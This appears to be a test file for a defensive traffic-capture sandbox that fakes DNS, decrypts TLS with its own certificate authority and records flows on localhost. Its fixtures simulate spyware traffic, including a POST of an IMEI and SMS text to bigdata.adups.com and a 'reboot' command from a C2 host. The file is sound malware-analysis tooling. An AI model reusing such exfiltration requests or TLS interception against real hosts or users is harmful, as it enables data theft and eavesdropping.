import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { request as httpRequest, type IncomingMessage } from 'node:http';
import { connect as netConnect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkServerIdentity, connect as tlsConnect, type TLSSocket } from 'node:tls';
import * as dnsPacket from 'dns-packet';
import {
  readFlows,
  startCapture,
  type CagedCaptureSession,
  type Flow,
} from '../../src/capture/index.ts';
import type { HostPort } from '../../src/capture/addresses.ts';
import { silentLogger } from '../../src/log.ts';
import { FakeEdge } from '../support/capture-fake-edge.ts';

// Every packet of this file goes to 127.0.0.1; the TEST-NET addresses below are only what the
// fake edge says the clients were going to.
const RESOLVER = { ip: '192.0.2.53', port: 53 };
const RAW_DESTINATION = { ip: '203.0.113.7', port: 5555 };
const DOH_SERVER = { ip: '198.51.100.53', port: 443 };

void test('a caged capture takes redirected traffic as it comes and records where it was going', async (t) => {
  const runDir = await mkdtemp(join(tmpdir(), 'capture-transparent-'));
  t.after(() => rm(runDir, { recursive: true, force: true }));
  const edge = new FakeEdge();
  const session = await startCapture({
    runDir,
    logger: silentLogger(),
    cage: { gateway: '127.0.0.1', originalDestination: edge.originalDestination },
    responders: [{ host: 'rebootv5.adsunflower.com', status: 202, body: '{"cmd":"reboot"}' }],
  });
  t.after(() => session.stop());

  await t.test('every listener is on the gateway, and edgePorts names them', () => {
    assert.equal(session.mode, 'caged');
    assert.deepEqual(session.edgePorts, {
      tcp: session.front.port,
      dns: session.dns.port,
      udp: session.udp.port,
    });
    for (const listener of [session.front, session.dns, session.udp])
      assert.equal(listener.host, '127.0.0.1');
    assert.equal(new Set(Object.values(session.edgePorts)).size, 3);
  });

  let bigdataIp = '';
  let c2Ip = '';
  await t.test(
    'a query to any resolver is answered with a fake IP and records that resolver',
    async () => {
      const flowSeen = nextFlow(session, (f) => f.protocol === 'dns');
      bigdataIp = await query(session, edge, 'bigdata.adups.com');
      c2Ip = await query(session, edge, 'rebootv5.adsunflower.com');
      assert.equal(bigdataIp, '198.18.0.1');
      assert.equal(c2Ip, '198.18.0.2');
      const flow = await flowSeen;
      assert.deepEqual(flow.destination, { host: 'bigdata.adups.com', ...RESOLVER });
      const [first] = session.dnsQueries();
      assert.deepEqual(first?.resolver, RESOLVER);
      assert.equal(first?.answer, '198.18.0.1');
    },
  );

  await t.test(
    'TLS with SNI to a fake IP: decrypted, named by SNI, at its original address',
    async () => {
      const flowSeen = nextFlow(session, (f) => f.protocol === 'https');
      const socket = await connectThroughEdge(session, edge, { ip: bigdataIp, port: 443 });
      const clientPort = socket.localPort;
      const tls = await startTls(socket, 'bigdata.adups.com', session.caCertificatePem);
      const response = await send(
        httpRequest({
          createConnection: () => tls,
          method: 'POST',
          path: '/upload?imei=490154203237518',
          headers: { Host: 'bigdata.adups.com' },
        }),
        Buffer.from('sms=hello'),
      );
      assert.equal(response.status, 200);
      const flow = await flowSeen;
      assert.deepEqual(flow.destination, { host: 'bigdata.adups.com', ip: bigdataIp, port: 443 });
      assert.deepEqual(flow.client, { ip: '127.0.0.1', port: clientPort });
      assert.deepEqual(flow.tls, { sni: 'bigdata.adups.com', decrypted: true });
      assert.equal(flow.request?.url, 'https://bigdata.adups.com/upload?imei=490154203237518');
      assert.equal(Buffer.from(flow.request?.body ?? '', 'base64').toString(), 'sms=hello');
      assert.equal(flow.error, undefined);
    },
  );

  await t.test(
    'plain HTTP without a proxy: named by Host, answered by the responders',
    async () => {
      const flowSeen = nextFlow(session, (f) => f.protocol === 'http');
      const socket = await connectThroughEdge(session, edge, { ip: c2Ip, port: 80 });
      const response = await send(
        httpRequest({
          createConnection: () => socket,
          path: '/cmd/next',
          headers: { Host: 'rebootv5.adsunflower.com' },
        }),
      );
      assert.equal(response.status, 202);
      assert.equal(response.body, '{"cmd":"reboot"}');
      const flow = await flowSeen;
      assert.deepEqual(flow.destination, { host: 'rebootv5.adsunflower.com', ip: c2Ip, port: 80 });
      assert.equal(flow.request?.url, 'http://rebootv5.adsunflower.com/cmd/next');
    },
  );

  await t.test('TLS without SNI to a fake IP is named by the sinkhole', async () => {
    const flowSeen = nextFlow(session, (f) => f.protocol === 'https');
    const socket = await connectThroughEdge(session, edge, { ip: c2Ip, port: 8443 });
    const tls = await startTls(socket, undefined, session.caCertificatePem);
    // What a client that connected to a bare address sends: the address as Host.
    await send(
      httpRequest({
        createConnection: () => tls,
        path: '/poll',
        headers: { Host: `${c2Ip}:8443` },
      }),
    );
    const flow = await flowSeen;
    assert.equal(flow.tls?.sni, undefined);
    assert.deepEqual(flow.destination, { host: 'rebootv5.adsunflower.com', ip: c2Ip, port: 8443 });
  });

  await t.test(
    'TLS without SNI to an address literal gets a certificate for that address, and is decrypted',
    async () => {
      const flowSeen = nextFlow(session, (f) => f.destination.ip === DOH_SERVER.ip);
      const socket = await connectThroughEdge(session, edge, DOH_SERVER);
      // As a client that connected to the bare address checks the certificate: against the address.
      const tls = await startTls(socket, undefined, session.caCertificatePem, DOH_SERVER.ip);
      const response = await send(
        httpRequest({
          createConnection: () => tls,
          method: 'POST',
          path: '/dns-query',
          headers: { Host: DOH_SERVER.ip, 'Content-Type': 'application/dns-message' },
        }),
        Buffer.from('query'),
      );
      assert.equal(response.status, 200);
      const flow = await flowSeen;
      assert.equal(flow.protocol, 'https');
      assert.deepEqual(flow.tls, { decrypted: true });
      assert.deepEqual(flow.destination, { host: DOH_SERVER.ip, ...DOH_SERVER });
      assert.equal(flow.request?.url, `https://${DOH_SERVER.ip}/dns-query`);
      assert.equal(Buffer.from(flow.request?.body ?? '', 'base64').toString(), 'query');
    },
  );

  await t.test(
    'a client that refuses the address certificate leaves a failed handshake with its ClientHello',
    async () => {
      const flowSeen = nextFlow(session, (f) => f.destination.ip === DOH_SERVER.ip);
      const socket = await connectThroughEdge(session, edge, DOH_SERVER);
      const refused = await startTls(socket, undefined, undefined, DOH_SERVER.ip).then(
        () => 'accepted',
        (error: Error) => error.message,
      );
      assert.match(refused, /certificate/);
      const flow = await flowSeen;
      assert.equal(flow.protocol, 'tls');
      // Node checks the certificate after the handshake and closes without an alert, as mockttp
      // words it for TLS it terminates itself.
      assert.equal(flow.error, 'tls-handshake:closed');
      assert.deepEqual(flow.tls, { decrypted: false });
      assert.equal(Buffer.from(flow.raw ?? '', 'base64')[0], 0x16, 'the ClientHello is kept');
    },
  );

  await t.test(
    'bytes that are neither TLS nor HTTP make a raw tcp flow to the IP literal',
    async () => {
      const payload = Buffer.from([0x00, 0x01, 0xfe, 0xff, 0x49, 0x4d, 0x45, 0x49]);
      const flowSeen = nextFlow(session, (f) => f.protocol === 'tcp');
      const socket = await connectThroughEdge(session, edge, RAW_DESTINATION);
      const clientPort = socket.localPort;
      socket.end(payload);
      const flow = await flowSeen;
      assert.deepEqual(flow.destination, { host: RAW_DESTINATION.ip, ...RAW_DESTINATION });
      assert.deepEqual(flow.client, { ip: '127.0.0.1', port: clientPort });
      assert.ok(Buffer.from(flow.raw ?? '', 'base64').equals(payload));
    },
  );

  await t.test('a connection the edge cannot place is recorded, and says so', async () => {
    const flowSeen = nextFlow(session, (f) => f.error === 'original-destination-unknown');
    const socket = await connectThroughEdge(session, edge, undefined);
    socket.end('where am I');
    const flow = await flowSeen;
    assert.equal(flow.protocol, 'tcp');
    assert.deepEqual(flow.destination, { ip: '127.0.0.1', port: session.front.port });
    assert.equal(Buffer.from(flow.raw ?? '', 'base64').toString(), 'where am I');
  });

  await t.test(
    'UDP datagrams become udp flows, named when the address is fake, never answered',
    async () => {
      const udp = createSocket('udp4');
      t.after(() => new Promise<void>((resolve) => udp.close(() => resolve())));
      await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
      const answers: Buffer[] = [];
      udp.on('message', (message) => answers.push(message));
      edge.place('udp', udp.address().port, { ip: bigdataIp, port: 9999 });
      const named = nextFlow(session, (f) => f.protocol === 'udp');
      await sendTo(udp, Buffer.from([0xca, 0xfe, 0x00, 0x01]), session.udp.port);
      const flow = await named;
      assert.deepEqual(flow.destination, { host: 'bigdata.adups.com', ip: bigdataIp, port: 9999 });
      assert.deepEqual(flow.client, { ip: '127.0.0.1', port: udp.address().port });
      assert.equal(flow.raw, Buffer.from([0xca, 0xfe, 0x00, 0x01]).toString('base64'));

      const other = createSocket('udp4');
      t.after(() => new Promise<void>((resolve) => other.close(() => resolve())));
      await new Promise<void>((resolve) => other.bind(0, '127.0.0.1', resolve));
      other.on('message', (message) => answers.push(message));
      edge.place('udp', other.address().port, RAW_DESTINATION);
      const literal = nextFlow(session, (f) => f.protocol === 'udp');
      await sendTo(other, Buffer.from('ping'), session.udp.port);
      assert.deepEqual((await literal).destination, {
        host: RAW_DESTINATION.ip,
        ...RAW_DESTINATION,
      });
      await delay(300);
      assert.deepEqual(answers, [], 'the sink never answers');
    },
  );

  await t.test('silent connections are held, and recorded when they close or at stop', async () => {
    const closedEarly = nextFlow(session, (f) => f.destination.port === 7001);
    const early = await connectThroughEdge(session, edge, { ip: '198.51.100.7', port: 7001 });
    early.end();
    assert.equal((await closedEarly).raw, '');
    const silent = await connectThroughEdge(session, edge, { ip: '198.51.100.7', port: 7000 });
    silent.on('error', () => undefined);
    await delay(100);
    assert.ok(!session.flows().some((f) => f.destination.port === 7000), 'still held');
    await session.stop();
    const flow = session.flows().find((f) => f.destination.port === 7000);
    assert.equal(flow?.raw, '');
    assert.equal(flow?.protocol, 'tcp');
    assert.deepEqual(await readFlows(join(runDir, 'flows.jsonl')), session.flows());
    const dnsLines = (await readFile(join(runDir, 'dns.jsonl'), 'utf8')).trim().split('\n');
    assert.equal(dnsLines.length, 2);
  });
});

void test('a caged capture refuses host/dns options and a gateway outside the cage range', async () => {
  const edge = new FakeEdge();
  const runDir = join(tmpdir(), 'never-created');
  await assert.rejects(
    startCapture({
      runDir,
      logger: silentLogger(),
      cage: { gateway: '127.0.0.1', originalDestination: edge.originalDestination },
      host: '127.0.0.1',
    }),
    { code: 'capture-options-conflict' },
  );
  await assert.rejects(
    startCapture({
      runDir,
      logger: silentLogger(),
      cage: { gateway: '10.0.2.2', originalDestination: edge.originalDestination },
    }),
    { code: 'capture-host-not-contained' },
  );
});

async function query(session: CagedCaptureSession, edge: FakeEdge, name: string): Promise<string> {
  const udp = createSocket('udp4');
  try {
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    edge.place('udp', udp.address().port, RESOLVER);
    const answer = new Promise<Buffer>((resolve) => udp.once('message', resolve));
    const packet = dnsPacket.encode({
      type: 'query',
      id: 7,
      flags: dnsPacket.RECURSION_DESIRED,
      questions: [{ type: 'A', name }],
    });
    await sendTo(udp, packet, session.dns.port);
    const decoded = dnsPacket.decode(await answer);
    const first = decoded.answers?.[0];
    assert.ok(first?.type === 'A');
    return first.data;
  } finally {
    udp.close();
  }
}

/** Connects to the front as the edge would deliver it, saying where the client was going. */
function connectThroughEdge(
  session: CagedCaptureSession,
  edge: FakeEdge,
  destination: HostPort | undefined,
): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = netConnect(session.front.port, '127.0.0.1');
    socket.once('connect', () => {
      edge.place('tcp', socket.localPort ?? 0, destination);
      resolve(socket);
    });
    socket.once('error', reject);
  });
}

function sendTo(udp: UdpSocket, bytes: Buffer, port: number): Promise<void> {
  return new Promise((resolve, reject) =>
    udp.send(bytes, port, '127.0.0.1', (error) => (error ? reject(error) : resolve())),
  );
}

function nextFlow(
  session: CagedCaptureSession,
  match: (flow: Flow) => boolean,
  timeoutMs = 5000,
): Promise<Flow> {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => {
      unsubscribe();
      reject(new Error(`no matching flow within ${timeoutMs} ms`));
    }, timeoutMs);
    const unsubscribe = session.onFlow((flow) => {
      if (!match(flow)) return;
      clearTimeout(timer);
      unsubscribe();
      resolve(flow);
    });
  });
}

/**
 * TLS over `socket`. Without `servername` node sends no SNI, as a client connecting to a bare
 * address does; it then checks the certificate against `address`, when given, or not at all.
 * Without `ca` only the system's roots are trusted.
 */
function startTls(
  socket: Socket,
  servername: string | undefined,
  ca: string | undefined,
  address?: string,
): Promise<TLSSocket> {
  return new Promise((resolve, reject) => {
    const tls = tlsConnect({
      socket,
      ...(ca === undefined ? {} : { ca }),
      ...(servername
        ? { servername }
        : {
            checkServerIdentity: (_host, cert) =>
              address === undefined ? undefined : checkServerIdentity(address, cert),
          }),
    });
    tls.once('secureConnect', () => resolve(tls));
    tls.once('error', reject);
  });
}

function send(
  req: ReturnType<typeof httpRequest>,
  body?: Buffer,
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    req.once('response', (response: IncomingMessage) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.once('end', () =>
        resolve({ status: response.statusCode ?? 0, body: Buffer.concat(chunks).toString() }),
      );
    });
    req.once('error', reject);
    req.end(body);
  });
}

function delay(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
